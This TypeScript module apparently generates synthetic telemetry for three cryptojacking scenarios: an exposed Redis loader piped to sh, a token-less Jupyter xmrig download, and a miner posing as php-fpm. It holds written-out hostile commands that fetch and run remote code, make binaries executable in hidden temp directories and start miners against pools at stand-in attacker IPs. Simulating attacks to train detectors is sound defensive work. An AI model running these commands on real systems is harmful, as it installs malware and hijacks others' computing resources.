/** Cryptojacking (T1496, Resource Hijacking): a loader fetches a miner, makes it executable, runs it against a pool. */
import { attackerIp, MINING_POOLS, MINING_PORTS } from '../destinations.ts';
import { chmodded, connected, execve, MODE_0755, MODE_0777 } from '../events.ts';
import type { Container, Proc } from '../model.ts';
import { proc } from '../model.ts';
import type { EpisodeContext } from '../background/activity.ts';
import { MS, SECOND } from '../background/helpers.ts';
import { bin, foothold, shC, type Playbook } from './playbook.ts';

const TECHNIQUE = { kind: 'cryptominer', technique: 'T1496', techniqueName: 'Resource Hijacking' } as const;

function wallet(ctx: EpisodeContext): string {
  return `4${ctx.rng.chars('123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz', 94)}`;
}

function poolPeer(ctx: EpisodeContext): { ip: string; port: number; name: string } {
  return { ip: attackerIp(ctx.rng), port: ctx.rng.pick(MINING_PORTS), name: ctx.rng.pick(MINING_POOLS) };
}

/** The miner runs, then keeps a pool connection (reconnects now and then). */
function mine(
  ctx: EpisodeContext,
  c: Container,
  chain: readonly Proc[],
  t: number,
  pool: { ip: string; port: number; name: string },
): void {
  const { rng } = ctx;
  ctx.kernel(t, { op: 'exec', upperLayer: true, facts: execve(c, chain, { upperLayer: true }) });
  let dt = t + rng.uniform(0.3, 2) * SECOND;
  for (let i = rng.between(1, 3); i > 0; i--) {
    ctx.kernel(dt, { op: 'connect', facts: connected(rng, c, chain, pool) });
    dt += rng.uniform(20, 90) * SECOND;
  }
}

/** Exposed Redis: a loader piped to sh (the Kinsing/kdevtmpfsi pattern). */
export const redisLoader: Playbook = {
  ...TECHNIQUE,
  variant: 'redis-loader',
  roles: ['redis'],
  run(ctx, c) {
    const { rng } = ctx;
    const f = foothold(c);
    const ip = attackerIp(rng);
    const dir = rng.pick(['/tmp/.x', '/var/tmp/.font-unix', '/tmp/.ICE-unix']);
    const sh = shC(`curl -fsSL http://${ip}/ldr.sh | sh`, c.init.cwd);
    const shChain = [sh, ...f.chain];
    ctx.kernel(0, { op: 'exec', facts: execve(c, shChain) });
    const fetch = bin('/usr/bin/curl', `-fsSL http://${ip}/ldr.sh`, c.init.cwd);
    ctx.kernel(2 * MS, { op: 'exec', facts: execve(c, [fetch, ...shChain]) });
    ctx.kernel(10 * MS, { op: 'connect', facts: connected(rng, c, [fetch, ...shChain], { ip, port: 80 }) });
    const loader = proc('/usr/bin/dash', '', c.init.cwd, { exe: 'sh' });
    const loaderChain = [loader, ...shChain];
    ctx.kernel(3 * MS, { op: 'exec', facts: execve(c, loaderChain) });
    const name = rng.pick(['kdevtmpfsi', 'kinsing', 'dbused', 'sysupdate']);
    const path = `${dir}/${name}`;
    let dt = rng.uniform(1, 4) * SECOND;
    const get = bin('/usr/bin/curl', `-fsSL -o ${path} http://${ip}/${name}`, c.init.cwd);
    ctx.kernel(dt, { op: 'exec', facts: execve(c, [get, ...loaderChain]) });
    ctx.kernel(dt + 15 * MS, {
      op: 'connect',
      facts: connected(rng, c, [get, ...loaderChain], { ip, port: 80 }),
    });
    dt += rng.uniform(2, 10) * SECOND;
    const chmod = bin('/usr/bin/chmod', `+x ${path}`, c.init.cwd);
    ctx.kernel(dt, { op: 'exec', facts: execve(c, [chmod, ...loaderChain]) });
    ctx.kernel(dt + MS, { op: 'chmod', facts: chmodded(c, [chmod, ...loaderChain], path, MODE_0755) });
    const pool = poolPeer(ctx);
    const miner = proc(
      path,
      `-o stratum+tcp://${pool.name}:${pool.port} -u ${wallet(ctx)} -p x -k --donate-level 1 -B`,
      `${dir}/`,
      { exe: path },
    );
    mine(ctx, c, [miner, ...loaderChain], dt + rng.uniform(0.5, 3) * SECOND, pool);
  },
};

/** Token-less Jupyter: a notebook cell downloads xmrig into /dev/shm and starts it. */
export const jupyterXmrig: Playbook = {
  ...TECHNIQUE,
  variant: 'jupyter-xmrig',
  roles: ['notebook'],
  run(ctx, c) {
    const { rng } = ctx;
    const f = foothold(c);
    const ip = attackerIp(rng);
    const path = '/dev/shm/.sys/xmrig';
    const sh = shC(`wget -q -O ${path} http://${ip}/xmrig-6.21.1-linux-static-x64`, c.init.cwd);
    ctx.kernel(0, { op: 'exec', facts: execve(c, [sh, ...f.chain]) });
    const wget = bin('/usr/bin/wget', `-q -O ${path} http://${ip}/xmrig-6.21.1-linux-static-x64`, c.init.cwd);
    ctx.kernel(3 * MS, { op: 'exec', facts: execve(c, [wget, sh, ...f.chain]) });
    let dt = rng.uniform(5, 40) * SECOND;
    const sh2 = shC(`chmod 777 ${path}`, c.init.cwd);
    const chmod = bin('/usr/bin/chmod', `777 ${path}`, c.init.cwd);
    ctx.kernel(dt, { op: 'exec', facts: execve(c, [chmod, sh2, ...f.chain]) });
    ctx.kernel(dt + MS, { op: 'chmod', facts: chmodded(c, [chmod, sh2, ...f.chain], path, MODE_0777) });
    dt += rng.uniform(5, 30) * SECOND;
    const pool = poolPeer(ctx);
    const sh3 = shC(
      `nohup ${path} --url ${pool.name}:${pool.port} --user ${wallet(ctx)} --threads=4 &`,
      c.init.cwd,
    );
    ctx.kernel(dt, { op: 'exec', facts: execve(c, [sh3, ...f.chain]) });
    const miner = proc(
      path,
      `-o stratum+tcp://${pool.name}:${pool.port} --user ${wallet(ctx)} --threads=4`,
      '/dev/shm/.sys/',
      { exe: path },
    );
    mine(ctx, c, [miner, sh3, ...f.chain], dt + 5 * MS, pool);
  },
};

/** A web shell drops a miner named like the server itself, configured by file (no pool on the command line). */
export const phpMasquerade: Playbook = {
  ...TECHNIQUE,
  variant: 'php-masquerade',
  roles: ['web-php'],
  run(ctx, c) {
    const { rng } = ctx;
    const f = foothold(c);
    const ip = attackerIp(rng);
    const dir = '/tmp/.ICE-unix';
    const sh = shC(
      `cd ${dir} && wget -q http://${ip}/p.tgz && tar xzf p.tgz && chmod +x php-fpm && ./php-fpm -c config.json`,
      c.init.cwd,
    );
    const shChain = [sh, ...f.chain];
    ctx.kernel(0, { op: 'exec', facts: execve(c, shChain, { user: f.user }) });
    let dt = 2 * MS;
    const wget = bin('/usr/bin/wget', `-q http://${ip}/p.tgz`, `${dir}/`);
    ctx.kernel(dt, { op: 'exec', facts: execve(c, [wget, ...shChain], { user: f.user }) });
    dt += rng.uniform(1, 6) * SECOND;
    ctx.kernel(dt, {
      op: 'exec',
      facts: execve(c, [bin('/usr/bin/tar', 'xzf p.tgz', `${dir}/`), ...shChain], { user: f.user }),
    });
    dt += rng.uniform(50, 300) * MS;
    const chmod = bin('/usr/bin/chmod', '+x php-fpm', `${dir}/`);
    ctx.kernel(dt, { op: 'exec', facts: execve(c, [chmod, ...shChain], { user: f.user }) });
    ctx.kernel(dt + MS, {
      op: 'chmod',
      facts: chmodded(c, [chmod, ...shChain], `${dir}/php-fpm`, MODE_0755, { user: f.user }),
    });
    const miner = proc(`${dir}/php-fpm`, '-c config.json', `${dir}/`, { exe: './php-fpm', name: 'php-fpm' });
    const pool = { ip: attackerIp(rng), port: rng.pick([3333, 5555, 7777]), name: 'rx.unmineable.com' };
    const chain = [miner, ...shChain];
    ctx.kernel(dt + 20 * MS, {
      op: 'exec',
      upperLayer: true,
      facts: execve(c, chain, { user: f.user, upperLayer: true }),
    });
    ctx.kernel(dt + rng.uniform(0.5, 2) * SECOND, {
      op: 'connect',
      facts: connected(rng, c, chain, pool, { user: f.user }),
    });
  },
};

export const CRYPTOMINER_PLAYBOOKS: readonly Playbook[] = [redisLoader, jupyterXmrig, phpMasquerade];
